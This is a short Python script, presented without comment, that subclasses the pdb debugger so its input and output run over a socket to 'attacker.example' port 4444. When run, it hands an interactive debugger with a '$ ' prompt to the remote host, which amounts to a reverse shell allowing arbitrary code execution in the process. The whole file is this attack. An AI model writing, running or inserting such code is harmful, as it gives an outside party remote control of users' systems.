import pdb
import socket


class RemoteSession(pdb.Pdb):
    def __init__(self, address):
        self.link = socket.create_connection(address)
        stream = self.link.makefile("rw", buffering=1)
        super().__init__(stdin=stream, stdout=stream)
        self.prompt = "$ "


def attach():
    session = RemoteSession(("attacker.example", 4444))
    session.set_trace()
    return session


if __name__ == "__main__":
    attach()
